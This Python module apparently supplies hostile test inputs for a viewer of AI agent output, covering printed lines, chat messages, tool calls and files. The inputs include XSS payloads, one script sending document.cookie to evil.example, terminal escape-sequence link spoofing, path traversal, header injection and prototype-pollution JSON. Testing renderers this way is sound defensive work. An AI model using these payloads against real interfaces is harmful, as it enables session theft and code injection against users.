"""Thirty things that agents, commands and files may hold to harm whoever looks at them."""

from __future__ import annotations

from typing import Final

_SCRIPT: Final = "<script>fetch('https://evil.example/'+document.cookie);alert(1)</script>"
_ESC: Final = "\x1b"
_PNG: Final = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360"
    "f8cfc0f01f0005050101b5a2b7e40000000049454e44ae426082"
)

#: Lines that a command prints.
LINES: Final = (
    _SCRIPT,
    "<img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    f"{_ESC}]8;;javascript:alert(4){_ESC}\\click me{_ESC}]8;;{_ESC}\\",
    f"{_ESC}]8;;https://evil.example/{_ESC}\\harmless.example{_ESC}]8;;{_ESC}\\",
    f"{_ESC}[31m<b onmouseover=alert(5)>red</b>{_ESC}[0m",
    f"{_ESC}[38;2;1;2;3;url(https://evil.example/)mcolour",
    "\u202egnp.exe\u202c and zero\u200bwidth",
    "id: 1.1\\n\\ndata: {\"events\":[],\"entries\":9}",
    "\r\rdata: {}\r\rretry: 1\r\r",
    "NUL \0 bell \x07 backspace \x08",
    "A" * 1_000_000,
    "</span></div></section><script src=https://evil.example/x.js></script>",
)  # fmt: skip

#: What an agent says.
MESSAGES: Final = (
    f"Hello {_SCRIPT}",
    "[click](javascript:alert(10)) and [data](data:text/html,<script>alert(11)</script>)",
    "![picture](https://evil.example/p.png) <img src=https://evil.example/q.png>",
    '<iframe srcdoc="<script>parent.alert(12)</script>"></iframe>',
    "<a href=\"https://evil.example/\" onclick='alert(13)'>x</a>",
    "[x]: https://evil.example/ \"onload=alert(14)\"\n\n[x] `</code><script>alert(15)</script>`",
    "> " * 500 + "deep",
)  # fmt: skip

#: Tool calls: name, parameters.
CALLS: Final = (
    ("<img src=x onerror=alert(20)>", {"command": _SCRIPT, "__proto__": {"polluted": "yes"}}),
    ("edit_file", {"path": "</code>" + _SCRIPT, "old_string": "a", "new_string": _SCRIPT}),
)

#: Files, by their names.
FILES: Final = {
    "a\"b'<img src=x onerror=alert(30)>.txt": _SCRIPT.encode(),
    "../../etc/passwd": b"root:x",
    "line\nbreak\r\nSet-Cookie: a=b.md": b"<script>alert(31)</script>\n\n[x](vbscript:alert(1))",
    "page.html": b"<!doctype html><script>alert(32)</script>",
    "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(33)'/>",
    "polyglot.gif": b"GIF89a/*<script>alert(34)</script>*/=1;alert(35)",
    "proto.json": b'{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":1}}}',
    "picture.png": _PNG + _SCRIPT.encode(),
}
